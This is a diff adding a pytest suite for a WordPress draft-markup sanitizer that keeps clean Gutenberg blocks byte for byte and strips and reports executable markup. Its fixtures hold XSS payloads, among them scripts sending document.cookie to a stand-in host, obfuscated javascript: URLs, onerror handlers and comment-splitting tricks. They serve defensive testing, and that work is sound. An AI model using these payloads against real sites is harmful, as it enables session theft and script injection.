@@ -1,0 +1,261 @@
+"""Markup kept from a draft: byte for byte when clean; nothing executable ever kept; what went is said."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from bs4 import BeautifulSoup
+
+from wp_seo_bridge.content import Placeholder, TextBlock, parse, render
+from wp_seo_bridge.draft_markup import Removed, executable_parts, keep
+
+
+def executable(markup: str) -> list[str]:
+    """What a browser could run in ``markup``, found without the bridge's own code (an independent check)."""
+    found = []
+    soup = BeautifulSoup(markup, "lxml")
+    for element in soup.find_all(True):
+        if element.name in ("script", "iframe", "object", "embed", "style", "form", "base", "link", "template"):
+            found.append(element.name)
+        for name, value in element.attrs.items():
+            value = " ".join(value) if isinstance(value, list) else value
+            if name.lower().startswith("on"):
+                found.append(name)
+            squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
+            if squeezed.startswith(("javascript:", "vbscript:")) or (
+                squeezed.startswith("data:") and not re.match(r"data:image/(png|jpe?g|gif|webp)[;,]", squeezed)
+            ):
+                found.append(f"{name}={squeezed[:11]}")
+    # And what a lenient parser might miss, by the bytes.
+    if re.search(r"<\s*script", markup, re.I):
+        found.append("<script")
+    if re.search(r"[\s\"'/]on[a-z]+\s*=", markup, re.I):
+        found.append("on*=")
+    return found
+
+
+# -- clean elements stay byte for byte ------------------------------------------------------------
+
+CLEAN_CORE_BLOCKS = [
+    '<!-- wp:image {"id":41,"sizeSlug":"large","linkDestination":"none"} -->\n<figure class="wp-block-image size-large">'
+    '<img src="https://medias.example/2024/04/ecole.jpg" alt="La cour de l’école Jean-Macé" class="wp-image-41"/>'
+    '<figcaption class="wp-element-caption">La cour, avant les travaux.</figcaption></figure>\n<!-- /wp:image -->',
+    '<!-- wp:gallery {"linkTo":"none"} -->\n<figure class="wp-block-gallery has-nested-images columns-default is-cropped">'
+    '<!-- wp:image {"id":42} -->\n<figure class="wp-block-image"><img src="https://medias.example/a.jpg" alt="" '
+    'class="wp-image-42"/></figure>\n<!-- /wp:image --></figure>\n<!-- /wp:gallery -->',
+    '<!-- wp:embed {"url":"https://www.youtube.com/watch?v=dQw4w9WgXcQ","type":"video","providerNameSlug":"youtube"} -->\n'
+    '<figure class="wp-block-embed is-type-video is-provider-youtube"><div class="wp-block-embed__wrapper">\n'
+    "https://www.youtube.com/watch?v=dQw4w9WgXcQ\n</div></figure>\n<!-- /wp:embed -->",
+    '<!-- wp:video {"id":7} -->\n<figure class="wp-block-video"><video controls src="https://medias.example/conseil.mp4">'
+    "</video></figure>\n<!-- /wp:video -->",
+    '<!-- wp:audio {"id":8} -->\n<figure class="wp-block-audio"><audio controls src="https://medias.example/interview.mp3">'
+    "</audio></figure>\n<!-- /wp:audio -->",
+    '<!-- wp:file {"id":9,"href":"https://medias.example/budget.pdf"} -->\n<div class="wp-block-file"><a id="wp-block-file--'
+    'media-9" href="https://medias.example/budget.pdf">budget.pdf</a><a href="https://medias.example/budget.pdf" '
+    'class="wp-block-file__button wp-element-button" download aria-describedby="wp-block-file--media-9">Télécharger</a>'
+    "</div>\n<!-- /wp:file -->",
+    '<!-- wp:table -->\n<figure class="wp-block-table"><table><tbody><tr><td>Écoles</td><td>12 &amp; 3</td></tr>'
+    "</tbody></table></figure>\n<!-- /wp:table -->",
+    '<!-- wp:code -->\n<pre class="wp-block-code"><code>&lt;script&gt;alert(1)&lt;/script&gt; onclick="x"</code></pre>\n'
+    "<!-- /wp:code -->",
+    '<!-- wp:preformatted -->\n<pre class="wp-block-preformatted">Ligne 1\n  javascript: ce n’est qu’un mot</pre>\n'
+    "<!-- /wp:preformatted -->",
+    '<!-- wp:acme/newsletter-signup {"listId":"fr-2024","title":"Inscrivez-vous \\u003e"} /-->',
+]
+
+
+@pytest.mark.parametrize("block", CLEAN_CORE_BLOCKS, ids=lambda b: re.search(r"wp:([\w/-]+)", b).group(1))
+def test_clean_core_blocks_are_kept_byte_for_byte(block):
+    document = parse(f"<!-- wp:paragraph -->\n<p>Le texte.</p>\n<!-- /wp:paragraph -->\n\n{block}")
+    assert [b.markup for b in document.blocks if isinstance(b, Placeholder)] == [block]
+    assert not document.removed
+    assert block in render(document.blocks, "blocks")
+
+
+# -- what is removed, and how it is reported -------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("markup", "origin", "report"),
+    [
+        ("<script>document.location='https://collecte.example/?'+document.cookie</script>", "fragment", "1 script element"),
+        ('<img src="https://medias.example/a.jpg" onerror="alert(1)" alt="Une école">', "media", "1 onerror attribute"),
+        ('<img src="x.jpg" ONERROR="alert(1)" onLoad="y()">', "media", "1 onerror attribute, 1 onload attribute"),
+        ('<p><a href="javascript:alert(1)">lien</a></p>', "fragment", "1 javascript: URL"),
+        ('<p><a href="JaVaScRiPt&#58;alert(1)">lien</a></p>', "fragment", "1 javascript: URL"),
+        ('<p><a href="java&#9;script:alert(1)">lien</a></p>', "fragment", "1 javascript: URL"),
+        ('<p><a href=" &#14; javascript:alert(1)">lien</a></p>', "fragment", "1 javascript: URL"),
+        ('<p><a href="vbscript:msgbox(1)">lien</a></p>', "fragment", "1 vbscript: URL"),
+        ('<p><a href="data:text/html;base64,PHNjcmlwdD4=">lien</a></p>', "fragment", "1 data: URL"),
+        ('<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="">', "media", "1 data: URL"),
+        ('<img src="x.jpg" srcset="data:image/svg+xml,x 2x" alt="">', "media", "1 data: URL"),
+        ('<p style="width: expression(alert(1))">Texte</p>', "fragment", "1 style attribute"),
+        ('<p>Texte</p><style>body{display:none}</style>', "fragment", "1 style element"),
+        ('<form action="https://collecte.example"><input name="q"></form><p>Texte</p>', "fragment", "1 form element"),
+        ('<p>Texte</p><object data="https://x.example/a.swf"></object><embed src="https://x.example/b.swf">', "fragment",
+         "1 object element, 1 embed element"),
+        ('<meta http-equiv="refresh" content="0;url=https://collecte.example"><p>Texte</p>', "fragment",
+         "1 meta http-equiv element"),
+        ('<base href="https://collecte.example/"><link rel="stylesheet" href="https://x.example/a.css"><p>Texte</p>',
+         "fragment", "1 base element, 1 link element"),
+        ('<template shadowrootmode="open"><img src="x" onerror="alert(1)"></template><p>Texte</p>', "fragment",
+         "1 template element"),
+        ('<svg><a xlink:href="javascript:alert(1)"><text>carte</text></a></svg>', "block", "1 javascript: URL"),
+        ('<svg><animate attributeName="href" values="javascript:alert(1)"/></svg><p>Texte</p>', "block",
+         "1 javascript: URL"),
+        # An HTML5 parser ends "<!-->" at once: the script after it runs.
+        ("<p>Texte<!--><script>alert(1)</script>--></p>", "block", "1 script element"),
+        ('<p>Texte</p><iframe src="https://www.google.com/maps/embed?pb=1"></iframe>', "fragment", "1 iframe element"),
+        ('<p>Texte</p><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "fragment", "1 iframe element"),
+    ],
+)
+def test_executable_markup_is_removed_and_reported(markup, origin, report):
+    kept = keep(markup, origin)
+    assert str(kept.removed) == report
+    assert kept.markup is None or not executable(kept.markup), kept.markup
+
+
+def test_what_is_not_executable_stays_when_an_element_is_sanitised():
+    block = ('<!-- wp:image {"id":41,"sizeSlug":"large"} -->\n<figure class="wp-block-image size-large">'
+             '<a href="https://medias.example/grand.jpg" rel="noopener"><img src="https://medias.example/ecole.jpg" '
+             'alt="La cour" class="wp-image-41" width="640" height="360" loading="lazy" '
+             'srcset="https://medias.example/ecole-300.jpg 300w, https://medias.example/ecole.jpg 640w" '
+             'sizes="(max-width: 640px) 100vw, 640px" onerror="alert(1)"/></a>'
+             '<figcaption class="wp-element-caption">La cour de l’école.</figcaption></figure>\n<!-- /wp:image -->')
+    kept = keep(block, "block")
+    assert str(kept.removed) == "1 onerror attribute"
+    assert kept.markup.startswith('<!-- wp:image {"id":41,"sizeSlug":"large"} -->\n<figure class="wp-block-image size-large">')
+    assert kept.markup.endswith("</figure>\n<!-- /wp:image -->")
+    image = BeautifulSoup(kept.markup, "html.parser").img
+    assert {k: image[k] for k in ("src", "alt", "width", "height", "loading", "sizes")} == {
+        "src": "https://medias.example/ecole.jpg", "alt": "La cour", "width": "640", "height": "360", "loading": "lazy",
+        "sizes": "(max-width: 640px) 100vw, 640px",
+    }
+    assert image["class"] == ["wp-image-41"] and "640w" in image["srcset"] and "onerror" not in image.attrs
+    assert "La cour de l’école." in kept.markup and 'href="https://medias.example/grand.jpg"' in kept.markup
+
+
+@pytest.mark.parametrize("image_type", ["png", "jpeg", "gif", "webp"])
+def test_a_raster_data_image_is_kept(image_type):
+    markup = f'<img src="data:image/{image_type};base64,iVBORw0KGgo=" alt="Pixel">'
+    assert keep(markup, "media").markup == markup
+
+
+def test_a_custom_html_block_with_a_script_is_dropped_whole():
+    block = ('<!-- wp:html -->\n<div class="encart"><p>Votre avis compte</p><script>fetch("https://collecte.example/"'
+             "+document.cookie)</script></div>\n<!-- /wp:html -->")
+    kept = keep(block, "html")
+    assert kept.markup is None and str(kept.removed) == "1 custom HTML block, 1 script element"
+
+
+def test_a_custom_html_block_without_script_is_sanitised_not_dropped():
+    block = '<!-- wp:html -->\n<div class="encart" onclick="suivre()"><p>Abonnez-vous</p></div>\n<!-- /wp:html -->'
+    kept = keep(block, "html")
+    assert kept.markup == '<!-- wp:html -->\n<div class="encart"><p>Abonnez-vous</p></div>\n<!-- /wp:html -->'
+    assert str(kept.removed) == "1 onclick attribute"
+
+
+TWEET = ('<!-- wp:html -->\n<blockquote class="twitter-tweet"><p lang="fr">Le budget des écoles est voté.</p>&mdash; '
+         'Mairie (@mairie) <a href="https://twitter.com/mairie/status/1">avril 2024</a></blockquote> <script async '
+         'src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>\n<!-- /wp:html -->')
+
+
+def test_a_widget_from_a_trusted_host_is_kept_byte_for_byte_and_only_then():
+    assert keep(TWEET, "html", ["platform.twitter.com"]).markup == TWEET
+    assert keep(TWEET, "html", ["twitter.com"]).markup == TWEET  # subdomains of a listed host
+    for hosts in ([], ["witter.com"], ["platform.twitter.com.collecte.example"], ["youtube.com"]):
+        kept = keep(TWEET, "html", hosts)
+        assert kept.markup is None and str(kept.removed) == "1 custom HTML block, 1 script element", hosts
+    # An inline script is never trusted, whatever the list; nor is a trusted script with a handler.
+    inline = TWEET.replace("</script>", "</script><script>alert(1)</script>")
+    assert keep(inline, "html", ["platform.twitter.com"]).markup is None
+    handler = TWEET.replace('charset="utf-8"', 'charset="utf-8" onload="alert(1)"')
+    assert keep(handler, "html", ["platform.twitter.com"]).markup is None
+    # The list applies to embeds, Custom HTML and classic fragments only, never to other blocks.
+    assert keep(TWEET, "block", ["platform.twitter.com"]).markup != TWEET
+
+
+def test_an_iframe_in_an_embed_block_needs_a_trusted_host():
+    block = ('<!-- wp:embed {"url":"https://video.example/v/42","type":"rich"} -->\n<figure class="wp-block-embed">'
+             '<div class="wp-block-embed__wrapper">\nhttps://video.example/v/42\n<iframe src="https://video.example/embed/42">'
+             "</iframe></div></figure>\n<!-- /wp:embed -->")
+    assert keep(block, "embed", ["video.example"]).markup == block
+    kept = keep(block, "embed")
+    assert str(kept.removed) == "1 iframe element" and "<iframe" not in kept.markup
+    assert kept.markup.startswith('<!-- wp:embed {"url":"https://video.example/v/42","type":"rich"} -->')
+    assert "https://video.example/v/42" in kept.markup
+
+
+def test_removed_tally_reads_as_a_sentence():
+    tally = Removed.of(["script element", "onerror attribute"]) + Removed.of(["script element", "javascript: URL"])
+    assert str(tally) == "2 script elements, 1 onerror attribute, 1 javascript: URL"
+    assert tally.as_dict() == {"script element": 2, "onerror attribute": 1, "javascript: URL": 1}
+    assert not Removed() and str(Removed()) == ""
+
+
+# -- drafts: classic, block, plain ---------------------------------------------------------------------
+
+CLASSIC = """<p>Le conseil municipal a voté mardi soir le budget de la rénovation des écoles.</p>
+<script>document.location='https://collecte.example/?c='+document.cookie</script>
+<p>Les associations de parents saluent une décision attendue depuis longtemps.</p>
+"""
+
+
+def test_a_bare_script_between_classic_paragraphs_is_removed():
+    document = parse(CLASSIC)
+    assert [b.kind for b in document.blocks] == ["paragraph", "paragraph"]
+    assert str(document.removed) == "1 script element"
+    assert not executable(render(document.blocks, "classic"))
+
+
+@pytest.mark.parametrize("wrap", [
+    lambda p: f"<p>{p}</p>",
+    lambda p: f"<!-- wp:paragraph -->\n<p>{p}</p>\n<!-- /wp:paragraph -->",
+    lambda p: p,
+], ids=["classic", "blocks", "classic-without-p"])
+def test_an_inline_image_becomes_its_own_element_and_its_text_is_text_once(wrap):
+    image = '<img src="https://medias.example/ecole.jpg" onerror="alert(document.cookie)" alt="Une école" width="640">'
+    text = "Les travaux commenceront pendant les vacances d’été. Les parents d’élèves seront informés par courrier."
+    document = parse(wrap(f"{image} {text}") + "\n\n" + wrap("Le chantier durera tout l’été."))
+    kept, paragraph = document.blocks[0], document.blocks[1]
+    assert isinstance(kept, Placeholder) and kept.label == "image"
+    assert BeautifulSoup(kept.markup, "html.parser").img.attrs == {
+        "src": "https://medias.example/ecole.jpg", "alt": "Une école", "width": "640"
+    }
+    assert "Les travaux" not in kept.markup
+    assert isinstance(paragraph, TextBlock) and paragraph.text == text
+    assert str(document.removed) == "1 onerror attribute"
+    output = render(document.blocks, "blocks")
+    assert output.count("parents d’élèves seront informés") == 1 and not executable(output)
+
+
+def test_an_image_after_the_text_follows_it_and_a_clean_one_is_byte_for_byte():
+    image = '<a href="https://medias.example/grand.jpg"><img src="https://medias.example/petit.jpg" alt="Plan" /></a>'
+    document = parse(f"<p>Le plan des travaux est affiché en mairie. {image}</p>")
+    assert [type(b).__name__ for b in document.blocks] == ["TextBlock", "Placeholder"]
+    assert document.blocks[1].markup == image and not document.removed
+    assert document.blocks[0].text == "Le plan des travaux est affiché en mairie."
+
+
+def test_scripts_and_handlers_in_text_are_reported_and_never_rendered():
+    document = parse('<p onclick="suivre()">Le maire a <a href="javascript:void(0)" onmouseover="x()">répondu</a> '
+                     "aux questions.<script>alert(1)</script></p>")
+    assert document.blocks[0].text == "Le maire a répondu aux questions."
+    assert str(document.removed) == "1 onclick attribute, 1 javascript: URL, 1 onmouseover attribute, 1 script element"
+    assert not executable(render(document.blocks, "classic"))
+
+
+def test_plain_text_is_text_and_a_script_in_it_is_markup():
+    document = parse("Le taux est passé de 3 % à <5 % en un an.\nUne seconde ligne de texte, sans balise.")
+    assert document.format == "plain" and document.blocks[0].text == "Le taux est passé de 3 % à <5 % en un an."
+    # WordPress would run a script written in a plain-text draft: it is markup, removed.
+    document = parse("Le maire a écrit dans son message.\n<script>alert(1)</script>\nUne seconde ligne de texte.")
+    assert str(document.removed) == "1 script element"
+    assert not executable(render(document.blocks, "classic"))
+
+
+def test_executable_parts_of_a_whole_article():
+    # Each piece alone is harmless; together, the comment opened in one closes in the next.
+    article = '<p>Un<!--</p>\n\n<p><img alt="--><img src=x onerror=alert(1)>"></p>'
+    assert str(executable_parts(article)) == "1 onerror attribute"
